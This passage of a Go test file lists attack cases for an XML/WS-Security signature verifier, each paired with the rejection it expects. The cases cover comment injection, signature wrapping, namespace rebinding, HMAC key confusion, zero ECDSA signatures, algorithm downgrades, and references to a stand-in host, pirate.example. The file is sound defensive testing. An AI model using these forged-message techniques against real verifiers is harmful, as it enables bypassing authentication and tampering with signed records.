		changed("comment-added", "forbidden-xml", "a comment put into a signed value afterwards: the digest would still hold", "0077565712", "00775<!-- -->65712"),
		changed("comment-before", "forbidden-xml", "a comment put before a signed value", "<numero_amc>", "<numero_amc><!--0099999999-->"),
		changed("comment-after", "forbidden-xml", "a comment put after a signed value", "</numero_amc>", "<!--0099999999--></numero_amc>"),
		changed("comment-and-cdata", "forbidden-xml", "a comment between two CDATA sections", "0077565712", "<![CDATA[00775]]><!-- --><![CDATA[65712]]>"),
		changed("digits-by-reference", "accepted", "a value rewritten with a character reference afterwards: one value, for the digest and the reader", "0077565712", "007756571&#x32;"),
		changed("changed", "bad-signature", "another value", "0077565712", "0099999999"),
		changed("attribute-added", "bad-signature", "an attribute added", "<numero_amc>", `<numero_amc nil="true">`),
		changed("attribute-on-body", "bad-signature", "an attribute added to the Body", "<soap:Body ", `<soap:Body soap:encodingStyle="urn:x" `),
		changed("element-added", "bad-signature", "an element added", "</adressage>", "<numero_amc>0099999999</numero_amc></adressage>"),
		changed("space-added", "bad-signature", "white space added", "<adressage>", "<adressage> "),
		changed("line-end", "bad-signature", "a carriage return by reference where none was", "</adressage>", "&#13;</adressage>"),
		changed("xsi-nil", "bad-signature", "xml:space added", "<adressage>", `<adressage xml:space="default">`),
		inside("digest-comment", "ds:DigestValue", "<!-- -->", "a comment in a DigestValue"),
		changed("digest-comment-first", "bad-signature", "a comment in a DigestValue that hides another digest (CVE-2025-29775)", "<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"),
		changed("signature-comment", "bad-signature", "a comment in SignatureValue", "<ds:SignatureValue>", "<ds:SignatureValue><!-- -->"),
		changed("created-comment", "bad-signature", "a comment in Created", "<wsu:Created>", "<wsu:Created><!-- -->"),
		changed("token-comment", "bad-signature", "a comment in the token", "</wsse:BinarySecurityToken>", "<!-- --></wsse:BinarySecurityToken>"),
		{name: "value-digest-cdata", expect: "bad-signature", family: split, about: "a DigestValue as CDATA", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "<![CDATA[@digest sha256 corps-CANARI@]]>")
		}},
		{name: "value-digest-by-reference", expect: "bad-signature", family: split, about: "a DigestValue with a reference to a letter that it is not made of", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "&#95;@digest sha256 corps-CANARI@")
		}},
		{name: "value-digest-with-element", expect: "bad-signature", family: split, about: "an element in DigestValue", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "@digest sha256 corps-CANARI@<x/>")
		}},
		{name: "value-digest-xop", expect: "bad-signature", family: "MTOM/XOP", about: "an xop:Include instead of the DigestValue", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, `<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:x"/>`)
		}},
		{name: "value-body-xop", expect: "bad-signature", family: "MTOM/XOP", about: "a value moved into an attachment: an xop:Include is an element like another, and the digest no longer holds", after: func(m string) string {
			return first(m, "0077565712", `<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:x"/>`)
		}},
		{name: "value-namespace-redefined", expect: "bad-signature", family: "namespace redefinition between check and use", about: "the prefix of the operation is bound to another namespace above it", after: func(m string) string {
			return first(m, `xmlns:idb="urn:roc:idb:1.0.0"`, `xmlns:idb="urn:roc:clc:1.0.0"`)
		}},
		{name: "value-default-namespace-added", expect: "bad-signature", family: "namespace redefinition between check and use", about: "a default namespace on the Envelope changes the unqualified names of the Body", after: func(m string) string {
			return first(m, "<soap:Envelope", `<soap:Envelope xmlns="urn:fictif"`)
		}},
		{name: "value-qname-rebound", expect: "accepted", family: "namespace redefinition between check and use", about: "a prefix that only a value uses is bound anew outside the signed part: exc-c14n does not cover it, and nothing here reads a QName in a value", before: func(d *draft) {
			d.envelope = ` xmlns:t="urn:fictif:un"`
			d.content = swap(goodContent, "<adressage>", `<adressage type="t:x">`)
		}, after: func(m string) string { return swap(m, "urn:fictif:un", "urn:fictif:deux") }},
		{name: "value-soap-prefix-rebound", expect: "not-soap", family: "namespace redefinition between check and use", about: "the prefix of SOAP bound to another namespace on the Body", after: func(m string) string {
			return first(m, "<soap:Body ", `<soap:Body xmlns:soap="urn:fictif" `)
		}},
	}
}

func keyCases() []attackCase {
	const confusion = "key confusion"
	info := func(name, expect, about, inner string) attackCase {
		return attackCase{name: "key-" + name, expect: expect, family: confusion, about: about, before: func(d *draft) {
			d.order = []string{"timestamp", "signature"}
			d.keyInfo = "<ds:KeyInfo>" + inner + "</ds:KeyInfo>"
		}}
	}
	str := func(inner string) string {
		return "<wsse:SecurityTokenReference>" + inner + "</wsse:SecurityTokenReference>"
	}
	cert := func(key string) string {
		return "<ds:X509Certificate>" + certOf(key) + "</ds:X509Certificate>"
	}
	issuerSerial := `<ds:X509IssuerSerial><ds:X509IssuerName>CN=TEST AC</ds:X509IssuerName><ds:X509SerialNumber>41394</ds:X509SerialNumber></ds:X509IssuerSerial>`
	hmacBy := func(how, about string) attackCase {
		return attackCase{name: "key-" + how, expect: "forbidden-algorithm", family: confusion + ": HMAC keyed with what everybody knows (GHSA family of xmlsec wrappers)", about: about, before: func(d *draft) {
			d.method, d.sign = `<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"/>`, how
		}}
	}
	signer := func(name, expect, about, key string) attackCase {
		return attackCase{name: "key-" + name, expect: expect, family: confusion, about: about, before: func(d *draft) {
			d.key, d.token = key, bst(key)
		}}
	}
	keyValue := `<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>` + base64.StdEncoding.EncodeToString(modulusOf("signataire")) + `</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`
	return []attackCase{
		hmacBy("hmac-certificate", "HMAC keyed with the certificate"),
		hmacBy("hmac-spki", "HMAC keyed with the public key, DER"),
		hmacBy("hmac-pem", "HMAC keyed with the public key, PEM"),
		hmacBy("hmac-empty", "HMAC with an empty key"),
		{name: "key-hmac-output-length", expect: "forbidden-algorithm", family: confusion + ", CVE-2009-0217", about: "HMACOutputLength of 0", before: func(d *draft) {
			d.method, d.sign = `<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>`, "hmac-empty"
		}},
		{name: "key-rsa-with-output-length", expect: "forbidden-algorithm", family: confusion + ", CVE-2009-0217", about: "HMACOutputLength under an RSA method", before: func(d *draft) {
			d.method = `<ds:SignatureMethod Algorithm="` + algRSASHA256 + `"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>`
		}},
		info("keyvalue", "untrusted-signer", "KeyValue only: a key without a name", keyValue),
		info("keyname", "untrusted-signer", "KeyName only", "<ds:KeyName>signataire</ds:KeyName>"),
		info("retrieval-method", "untrusted-signer", "RetrievalMethod", `<ds:RetrievalMethod URI="http://pirate.example/cert" Type="`+soap.NSDS+`rawX509Certificate"/>`),
		info("keyvalue-and-certificate", "untrusted-signer", "KeyValue beside the certificate: which one is it?", keyValue+"<ds:X509Data>"+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-only", "untrusted-signer", "WSS4J's default: IssuerSerial alone, no certificate in the message", str("<ds:X509Data>"+issuerSerial+"</ds:X509Data>")).saying("joignez-le"),
		info("ski-only", "untrusted-signer", "a subject key identifier alone", str(`<wsse:KeyIdentifier ValueType="`+x509TokenProfile+`X509SubjectKeyIdentifier">AAAA</wsse:KeyIdentifier>`)).saying("joignez-le"),
		info("thumbprint-only", "untrusted-signer", "a thumbprint alone", str(`<wsse:KeyIdentifier ValueType="http://docs.oasis-open.org/wss/oasis-wss-soap-message-security-1.1#ThumbprintSHA1">AAAA</wsse:KeyIdentifier>`)).saying("joignez-le"),
		info("issuer-serial-of-another", "untrusted-signer", "an IssuerSerial beside the certificate that names another one", "<ds:X509Data>"+serialOf("41395")+cert("signataire")+"</ds:X509Data>").saying("numéro de série"),
		info("issuer-serial-in-hexadecimal", "untrusted-signer", "the right serial, written as no xs:integer", "<ds:X509Data>"+serialOf("0x"+serialNumber("signataire").Text(16))+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-half-empty", "untrusted-signer", "an IssuerSerial with a name and no number", "<ds:X509Data>"+serialOf("")+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-twice", "untrusted-signer", "two IssuerSerial, the right one first", "<ds:X509Data>"+serialOf(serialNumber("signataire").String())+serialOf("41395")+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-two-numbers", "untrusted-signer", "two serial numbers in one IssuerSerial", "<ds:X509Data>"+swap(serialOf(serialNumber("signataire").String()), "</ds:X509IssuerSerial>", "<ds:X509SerialNumber>41395</ds:X509SerialNumber></ds:X509IssuerSerial>")+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-of-1000-digits", "untrusted-signer", "a serial number of 1000 digits", "<ds:X509Data>"+serialOf(strings.Repeat("0", 1000)+serialNumber("signataire").String())+cert("signataire")+"</ds:X509Data>"),
		info("issuer-serial-own-of-stranger", "untrusted-signer", "a certificate of another CA, with its own IssuerSerial", "<ds:X509Data>"+serialOf(serialNumber("autre-signataire").String())+cert("autre-signataire")+"</ds:X509Data>"),
		info("subject-name-only", "untrusted-signer", "X509SubjectName alone", "<ds:X509Data><ds:X509SubjectName>CN=TEST signataire</ds:X509SubjectName></ds:X509Data>").saying("joignez-le"),
		info("x509-ski-only", "untrusted-signer", "X509SKI alone", "<ds:X509Data><ds:X509SKI>AAAA</ds:X509SKI></ds:X509Data>").saying("joignez-le"),
		info("subject-name-holds-certificate", "untrusted-signer", "a certificate hidden in X509SubjectName", "<ds:X509Data><ds:X509SubjectName>"+cert("autre-structure")+"</ds:X509SubjectName>"+cert("signataire")+"</ds:X509Data>"),
		info("crl-beside-certificate", "untrusted-signer", "an X509CRL beside the certificate", "<ds:X509Data>"+cert("signataire")+"<ds:X509CRL>AAAA</ds:X509CRL></ds:X509Data>"),
		info("two-certificates", "untrusted-signer", "two certificates, the right one first", "<ds:X509Data>"+cert("signataire")+cert("autre-structure")+"</ds:X509Data>"),
		info("two-certificates-last", "untrusted-signer", "two certificates, the right one last", "<ds:X509Data>"+cert("autre-signataire")+cert("signataire")+"</ds:X509Data>"),
		info("two-x509data", "untrusted-signer", "two X509Data", "<ds:X509Data>"+cert("signataire")+"</ds:X509Data><ds:X509Data>"+cert("autre-structure")+"</ds:X509Data>"),
		info("two-str", "untrusted-signer", "an STR with two references", str(`<wsse:KeyIdentifier ValueType="`+typeX509v3+`">`+certOf("signataire")+`</wsse:KeyIdentifier><wsse:KeyIdentifier ValueType="`+typeX509v3+`">`+certOf("autre-structure")+`</wsse:KeyIdentifier>`)),
		info("empty-keyinfo", "untrusted-signer", "an empty KeyInfo", ""),
		{name: "key-no-keyinfo", expect: "untrusted-signer", family: confusion, about: "no KeyInfo", before: func(d *draft) { d.keyInfo = "" }},
		{name: "key-two-tokens", expect: "bad-signature", family: confusion, about: "two BinarySecurityTokens", before: func(d *draft) {
			d.order = []string{"token", swap(bst("autre-structure"), "jeton-CANARI", "jeton2-CANARI"), "timestamp", "signature"}
		}},
		{name: "key-token-not-named", expect: "untrusted-signer", family: confusion, about: "a BinarySecurityToken beside the certificate of KeyInfo", before: func(d *draft) {
			d.token = bst("autre-structure")
			d.keyInfo = "<ds:KeyInfo><ds:X509Data>" + cert("signataire") + "</ds:X509Data></ds:KeyInfo>"
		}},
		{name: "key-token-in-body", expect: "untrusted-signer", family: confusion, about: "the token stands in the Body", before: func(d *draft) {
			d.order = []string{"timestamp", "signature"}
			d.content = swap(goodContent, "<adressage>", d.token+"<adressage>")
		}},
		{name: "key-token-in-header", expect: "untrusted-signer", family: confusion, about: "the token stands in the Header outside Security", before: func(d *draft) {
			d.order, d.before = []string{"timestamp", "signature"}, d.token
		}},
		{name: "key-token-missing", expect: "untrusted-signer", family: confusion, about: "the STR names a token that is nowhere", says: "#jeton-CANARI", before: func(d *draft) { d.order = []string{"timestamp", "signature"} }},
		{name: "key-str-external", expect: "untrusted-signer", family: confusion, about: "the STR names a token elsewhere", before: func(d *draft) {
			d.keyInfo = swap(d.keyInfo, "#jeton-CANARI", "http://pirate.example/#jeton-CANARI")
		}},
		{name: "key-str-to-body", expect: "untrusted-signer", family: confusion, about: "the STR names the Body", before: func(d *draft) {
			d.keyInfo = swap(d.keyInfo, "#jeton-CANARI", "#corps-CANARI")
		}},
		{name: "key-valuetypes-differ", expect: "untrusted-signer", family: confusion, about: "reference and token disagree on what the token is", before: func(d *draft) {
			d.keyInfo = swap(d.keyInfo, typeX509v3, typePKIPath)
		}},
		{name: "key-token-hex", expect: "untrusted-signer", family: confusion, about: "the token says that it is in hexadecimal", before: func(d *draft) {
			d.token = swap(d.token, "#Base64Binary", "#HexBinary")
		}},
		{name: "key-token-with-junk", expect: "untrusted-signer", family: confusion, about: "bytes after the certificate in the token", before: func(d *draft) {
			d.token = swap(bst("signataire"), certOf("signataire"), base64.StdEncoding.EncodeToString(append(bytes.Clone(forgeKeys()["signataire"].Certificate.Raw), 0, 0)))
		}},
		{name: "key-pkipath-reversed", expect: "untrusted-signer", family: confusion, about: "a PKIPath whose last certificate is the CA", before: func(d *draft) {
			d.token = swap(swap(bst("signataire"), typeX509v3, typePKIPath), certOf("signataire"), pkiPath("signataire", "ac"))
			d.keyInfo = swap(d.keyInfo, typeX509v3, typePKIPath)
		}},
		{name: "key-ecdsa-label-on-rsa", expect: "forbidden-algorithm", family: confusion, about: "the label says ECDSA, the key is RSA", before: func(d *draft) {
			d.method, d.sign = `<ds:SignatureMethod Algorithm="`+algECDSASHA256+`"/>`, "rsa-sha256"
		}},
		{name: "key-rsa-label-on-ecdsa", expect: "forbidden-algorithm", family: confusion, about: "the label says RSA, the key is ECDSA", before: func(d *draft) {
			ecdsaDraft(d)
			d.method = `<ds:SignatureMethod Algorithm="` + algRSASHA256 + `"/>`
		}},
		{name: "key-ecdsa-der", expect: "bad-signature", family: confusion, about: "an ECDSA value in DER instead of r and s", before: func(d *draft) {
			ecdsaDraft(d)
			d.sign = "ecdsa-der"
		}},
		{name: "key-ecdsa-zero", expect: "bad-signature", family: confusion + ", CVE-2022-21449 (psychic signature)", about: "an ECDSA value of zeros", before: func(d *draft) {
			ecdsaDraft(d)
			d.value = "<ds:SignatureValue>" + base64.StdEncoding.EncodeToString(make([]byte, 64)) + "</ds:SignatureValue>"
		}},
		{name: "key-value-of-another", expect: "bad-signature", family: confusion, about: "signed with another key than that of the certificate joined", before: func(d *draft) { d.key = "autre-structure" }},
		signer("untrusted", "untrusted-signer", "a signer of another CA with the same structure", "autre-signataire"),
		signer("ca-itself", "untrusted-signer", "signed by the CA's own key", "ac").ecdsa(),
		signer("other-structure", "signer-mismatch", "signed by another structure than the caller's", "autre-structure"),
		signer("expired", "untrusted-signer", "the certificate has expired", "expire"),
		signer("server-certificate", "untrusted-signer", "a certificate for servers only", "serveur"),
		signer("rsa1024", "forbidden-algorithm", "an RSA key of 1024 bits", "rsa1024"),
		signer("p384", "forbidden-algorithm", "an ECDSA P-384 key under the P-256 label", "p384").ecdsa().hashed("ecdsa-sha384"),
	}
}

func modulusOf(key string) []byte { return rsaOf(key).N.Bytes() }

func (c attackCase) saying(s string) attackCase { c.says = s; return c }

// ecdsa sets the label of ECDSA with SHA-256.
func (c attackCase) ecdsa() attackCase {
	before := c.before
	c.before = func(d *draft) {
		before(d)
		d.method = `<ds:SignatureMethod Algorithm="` + algECDSASHA256 + `"/>`
	}
	return c
}

func (c attackCase) hashed(how string) attackCase {
	before := c.before
	c.before = func(d *draft) {
		before(d)
		d.sign = how
	}
	return c
}

func signedInfoCases() []attackCase {
	const digest = "digest of nothing, CVE-2025-66567/66568, CVE-2025-23369"
	const shape = "structure of the Signature (XMLDSig 4.4)"
	before := func(name, expect, family, about string, f func(*draft)) attackCase {
		return attackCase{name: "si-" + name, expect: expect, family: family, about: about, before: f}
	}
	after := func(name, expect, family, about string, f func(string) string) attackCase {
		return attackCase{name: "si-" + name, expect: expect, family: family, about: about, after: f}
	}
	return []attackCase{
		before("no-reference", "bad-signature", digest, "no reference at all: everything verifies and nothing is covered", func(d *draft) { d.refs = nil }),
		after("empty", "bad-signature", digest, "an empty SignedInfo", func(m string) string {
			return swap(m, part(m, "<ds:SignedInfo>", "</ds:SignedInfo>"), "<ds:SignedInfo/>")
		}),
		before("digest-of-nothing", "bad-signature", digest, "the digest of no bytes: what a failed canonicalization gives", func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "@digest nothing corps-CANARI@")
		}),
		before("empty-digest", "bad-signature", digest, "an empty DigestValue", func(d *draft) { d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "") }),
		before("short-digest", "bad-signature", digest, "a DigestValue of 8 bytes", func(d *draft) { d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "AAAAAAAAAAA=") }),
		before("sha512-digest-under-sha256", "bad-signature", digest, "a SHA-512 digest under the SHA-256 label", func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA256, "@digest sha512 corps-CANARI@")
		}),
		before("two-digests", "bad-signature", shape, "two DigestValues", func(d *draft) {
			d.refs[1] = swap(ref("#corps-CANARI"), "</ds:Reference>", "<ds:DigestValue>AAAA</ds:DigestValue></ds:Reference>")
		}),
		before("digest-before-method", "bad-signature", shape, "children of Reference out of order", func(d *draft) {
			m := `<ds:DigestMethod Algorithm="` + algSHA256 + `"/>`
			d.refs[1] = swap(swap(ref("#corps-CANARI"), m, ""), "</ds:Reference>", m+"</ds:Reference>")
		}),
		after("reference-after-signing", "bad-signature", shape, "a reference added to SignedInfo afterwards", func(m string) string {
			return swap(m, "</ds:SignedInfo>", `<ds:Reference URI="#jeton-CANARI"><ds:Transforms>`+excOnce+`</ds:Transforms><ds:DigestMethod Algorithm="`+algSHA256+`"/><ds:DigestValue>`+base64.StdEncoding.EncodeToString(make([]byte, 32))+`</ds:DigestValue></ds:Reference></ds:SignedInfo>`)
		}),
		after("digest-replaced", "bad-signature", shape, "content and digest replaced together, the value left", func(m string) string {
			d := newDraft()
			d.content = evilContent
			other := d.seal(d.String())
			return swap(swap(m, goodContent, evilContent), part(m, "<ds:SignedInfo>", "</ds:SignedInfo>"), part(other, "<ds:SignedInfo>", "</ds:SignedInfo>"))
		}),
		after("two-signedinfo", "bad-signature", shape+", CVE-2025-29774", "two SignedInfo, the signed one first", func(m string) string {
			s := part(m, "<ds:SignedInfo>", "</ds:SignedInfo>")
			return swap(m, s, s+s)
		}),
		after("signedinfo-last", "bad-signature", shape, "SignedInfo after SignatureValue", func(m string) string {
			s := part(m, "<ds:SignedInfo>", "</ds:SignedInfo>")
			return swap(swap(m, s, ""), "<ds:KeyInfo>", s+"<ds:KeyInfo>")
		}),
		after("signedinfo-wrapped", "bad-signature", shape, "the signed SignedInfo hidden in ds:Object", func(m string) string {
			s := part(m, "<ds:SignedInfo>", "</ds:SignedInfo>")
			return swap(m, "</ds:Signature>", "<ds:Object>"+s+"</ds:Object></ds:Signature>")
		}),
		after("two-values", "bad-signature", shape, "two SignatureValues", func(m string) string {
			s := part(m, "<ds:SignatureValue>", "</ds:SignatureValue>")
			return swap(m, s, s+s)
		}),
		after("no-value", "bad-signature", shape, "no SignatureValue", func(m string) string {
			return swap(m, part(m, "<ds:SignatureValue>", "</ds:SignatureValue>"), "")
		}),
		after("empty-value", "bad-signature", shape, "an empty SignatureValue", func(m string) string {
			return swap(m, part(m, "<ds:SignatureValue>", "</ds:SignatureValue>"), "<ds:SignatureValue/>")
		}),
		after("value-with-junk", "bad-signature", shape, "a SignatureValue with junk after its padding", func(m string) string {
			return swap(m, "</ds:SignatureValue>", "AAAA</ds:SignatureValue>")
		}),
		after("value-url-base64", "bad-signature", shape, "a SignatureValue in the URL alphabet", func(m string) string {
			s := part(m, "<ds:SignatureValue>", "</ds:SignatureValue>")
			v := s[len("<ds:SignatureValue>") : len(s)-len("</ds:SignatureValue>")]
			u := strings.NewReplacer("+", "-", "/", "_").Replace(v)
			if u == v {
				panic("the value has neither + nor /")
			}
			return swap(m, v, u)
		}),
		after("value-loose-bits", "bad-signature", shape, "a SignatureValue whose unused bits are not zero: the same bytes to a lax decoder", func(m string) string {
			return swap(m, "==</ds:SignatureValue>", "==</ds:SignatureValue>"[0:0]+"#")
		}).loose(),
		after("value-without-padding", "bad-signature", shape, "a SignatureValue without its padding", func(m string) string {
			return swap(m, "==</ds:SignatureValue>", "</ds:SignatureValue>")
		}),
		after("value-plus-modulus", "bad-signature", "malleability of the value", "a SignatureValue with a zero byte before it: the same number", func(m string) string {
			s := part(m, "<ds:SignatureValue>", "</ds:SignatureValue>")
			v, _ := base64.StdEncoding.DecodeString(s[len("<ds:SignatureValue>") : len(s)-len("</ds:SignatureValue>")])
			return swap(m, s, "<ds:SignatureValue>"+base64.StdEncoding.EncodeToString(append([]byte{0}, v...))+"</ds:SignatureValue>")
		}),
		before("object", "bad-signature", shape, "an empty ds:Object", func(d *draft) { d.object = "<ds:Object/>" }),
		before("unknown-child", "bad-signature", shape, "an unknown element in SignedInfo", func(d *draft) { d.more = "<ds:Autre/>" }),
		before("text", "bad-signature", shape, "text in SignedInfo", func(d *draft) { d.more = "texte" }),
		after("two-signatures", "bad-signature", shape, "two Signatures in Security", func(m string) string { return swap(m, signPart(m), signPart(m)+signPart(m)) }),
		after("no-security-content", "not-signed", shape, "an empty Security", func(m string) string {
			return swap(m, part(m, "<wsse:Security>", "</wsse:Security>"), "<wsse:Security/>")
		}),
		after("no-security", "not-signed", shape, "no Security", func(m string) string {
			return swap(m, part(m, "<wsse:Security>", "</wsse:Security>"), "")
		}),
		after("other-namespace", "bad-signature", shape, "a Signature of another namespace", func(m string) string {
			return swap(m, `xmlns:ds="`+soap.NSDS+`"`, `xmlns:ds="http://www.w3.org/2009/xmldsig11#"`)
		}),
	}
}

// loose makes the last base64 digit before "==" carry unused bits.
func (c attackCase) loose() attackCase {
	c.after = func(m string) string {
		i := strings.Index(m, "==</ds:SignatureValue>")
		const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
		digit := strings.IndexByte(alphabet, m[i-1])
		return m[:i-1] + alphabet[digit+1:digit+2] + m[i:]
	}
	return c
}

func algorithmCases() []attackCase {
	const transforms, downgrade = "forbidden transform", "algorithm downgrade"
	by := func(name, expect, about, list string) attackCase {
		return attackCase{name: "alg-" + name, expect: expect, family: transforms, about: about, before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", list, algSHA256, "@digest sha256 corps-CANARI@")
		}}
	}
	one := func(alg, inner string) string {
		return `<ds:Transform Algorithm="` + alg + `">` + inner + `</ds:Transform>`
	}
	method := func(name, about, alg, how string) attackCase {
		return attackCase{name: "alg-" + name, expect: "forbidden-algorithm", family: downgrade, about: about, before: func(d *draft) {
			d.method, d.sign = `<ds:SignatureMethod Algorithm="`+alg+`"/>`, how
		}}
	}
	canon := func(name, about, element string) attackCase {
		return attackCase{name: "alg-" + name, expect: "forbidden-algorithm", family: transforms, about: about, before: func(d *draft) { d.canon = element }}
	}
	many := "a" + strings.Repeat(" a", 70)
	return []attackCase{
		by("no-transforms", "forbidden-algorithm", "no transform at all: C14N 1.0 by default", ""),
		by("c14n10", "forbidden-algorithm", "C14N 1.0", one("http://www.w3.org/TR/2001/REC-xml-c14n-20010315", "")),
		by("c14n11", "forbidden-algorithm", "C14N 1.1", one("http://www.w3.org/2006/12/xml-c14n11", "")),
		by("xpath", "forbidden-algorithm", "XPath", one("http://www.w3.org/TR/1999/REC-xpath-19991116", "<ds:XPath>true()</ds:XPath>")+excOnce),
		by("xpath-filter2", "forbidden-algorithm", "XPath Filter 2", one("http://www.w3.org/2002/06/xmldsig-filter2", `<x:XPath xmlns:x="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//numero_amc</x:XPath>`)+excOnce),
		by("xslt", "forbidden-algorithm", "XSLT", one("http://www.w3.org/TR/1999/REC-xslt-19991116", `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"/></x:stylesheet>`)),
		by("base64", "forbidden-algorithm", "base64", one(soap.NSDS+"base64", "")),
		by("str-transform", "forbidden-algorithm", "STR-Transform", one("http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform", "")),
		by("twice", "forbidden-algorithm", "exc-c14n twice", excOnce+excOnce),
		by("enveloped-alone", "forbidden-algorithm", "enveloped-signature alone", one(algEnveloped, "")),
		by("enveloped-after", "forbidden-algorithm", "enveloped-signature after exc-c14n", excOnce+one(algEnveloped, "")),
		by("enveloped-twice", "forbidden-algorithm", "enveloped-signature twice", one(algEnveloped, "")+one(algEnveloped, "")+excOnce),
		by("c14n-with-xpath", "forbidden-algorithm", "an XPath inside exc-c14n", one(algExcC14N, "<ds:XPath>1</ds:XPath>")),
		by("enveloped-with-content", "forbidden-algorithm", "an XPath inside enveloped-signature", one(algEnveloped, "<ds:XPath>1</ds:XPath>")+excOnce),
		by("two-prefixlists", "forbidden-algorithm", "two InclusiveNamespaces", swap(prefixList("a"), "</ds:Transform>", `<ec:InclusiveNamespaces xmlns:ec="`+soap.NSEC+`" PrefixList="b"/></ds:Transform>`)),
		by("no-prefixlist-with-content", "forbidden-algorithm", "InclusiveNamespaces without PrefixList, with content", one(algExcC14N, `<ec:InclusiveNamespaces xmlns:ec="`+soap.NSEC+`"><ec:a/></ec:InclusiveNamespaces>`)),
		{name: "alg-namespaced-prefixlist", expect: "bad-signature", family: transforms, about: "a PrefixList in the namespace of exc-c14n is none: a digest that counts on it does not match", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", one(algExcC14N, `<ec:InclusiveNamespaces xmlns:ec="`+soap.NSEC+`" ec:PrefixList="soap wsse"/>`), algSHA256, "@digest sha256 corps-CANARI prefixes=soap,wsse@")
		}},
		by("long-prefixlist", "bad-signature", "a PrefixList of 71 prefixes", prefixList(many)),
		{name: "alg-prefixlist-nbsp", expect: "bad-signature", family: "parser differential in a list", about: "a PrefixList whose prefixes are parted by a no-break space is one prefix, not two", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", prefixList("soap\u00a0wsse"), algSHA256, "@digest sha256 corps-CANARI prefixes=soap,wsse@")
		}},
		by("text-in-transforms", "bad-signature", "text in Transforms", excOnce+"x"),
		by("unknown-transform", "forbidden-algorithm", "an algorithm nobody knows", one("urn:fictif", "")),
		by("prefix-of-known", "forbidden-algorithm", "an algorithm that starts like exc-c14n", one(algExcC14N+"x", "")),
		by("case", "forbidden-algorithm", "exc-c14n in capitals", one(strings.ToUpper(algExcC14N), "")),
		by("space", "forbidden-algorithm", "exc-c14n with a space", one(algExcC14N+" ", "")),
		canon("canon-c14n10", "SignedInfo by C14N 1.0", `<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"/>`),
		canon("canon-c14n11", "SignedInfo by C14N 1.1", `<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2006/12/xml-c14n11"/>`),
		canon("canon-none", "CanonicalizationMethod without Algorithm", `<ds:CanonicalizationMethod/>`),
		canon("canon-unknown", "SignedInfo by an algorithm nobody knows: what a lax library skips", `<ds:CanonicalizationMethod Algorithm="urn:fictif"/>`),
		{name: "alg-sha1-digest", expect: "forbidden-algorithm", family: downgrade, about: "SHA-1 digest", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, algSHA1, "@digest sha1 corps-CANARI@")
		}},
		{name: "alg-md5-digest", expect: "forbidden-algorithm", family: downgrade, about: "MD5 digest", before: func(d *draft) {
			d.refs[1] = refWith("#corps-CANARI", excOnce, "http://www.w3.org/2001/04/xmldsig-more#md5", "@digest md5 corps-CANARI@")
		}},
		{name: "alg-no-digest-algorithm", expect: "forbidden-algorithm", family: downgrade, about: "DigestMethod without Algorithm", before: func(d *draft) {
			d.refs[1] = swap(ref("#corps-CANARI"), `<ds:DigestMethod Algorithm="`+algSHA256+`"/>`, "<ds:DigestMethod/>")
		}},
		{name: "alg-digest-parameters", expect: "forbidden-algorithm", family: downgrade, about: "a parameter in DigestMethod", before: func(d *draft) {
			d.refs[1] = swap(ref("#corps-CANARI"), `<ds:DigestMethod Algorithm="`+algSHA256+`"/>`, `<ds:DigestMethod Algorithm="`+algSHA256+`"><x/></ds:DigestMethod>`)
		}},
		{name: "alg-namespaced-algorithm", expect: "forbidden-algorithm", family: downgrade, about: "the Algorithm in an attribute of another namespace", before: func(d *draft) {
			d.refs[1] = swap(ref("#corps-CANARI"), `<ds:DigestMethod Algorithm=`, `<ds:DigestMethod wsu:Algorithm=`)
		}},
		method("rsa-sha1", "RSA-SHA1", algRSASHA1, "rsa-sha1"),
		method("rsa-md5", "RSA-MD5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "rsa-md5"),
		method("rsa-pss", "RSA-PSS, by its label", "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1", "rsa-sha256"),
		method("dsa", "DSA, by its label", soap.NSDS+"dsa-sha1", "rsa-sha256"),
		method("ecdsa-sha384", "ECDSA with SHA-384, by its label", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha384", "rsa-sha256"),
		method("none", "an empty SignatureMethod", "", "rsa-sha256"),
		method("label-of-sha1-on-sha256", "the label says SHA-1, the value is SHA-256", algRSASHA1, "rsa-sha256"),
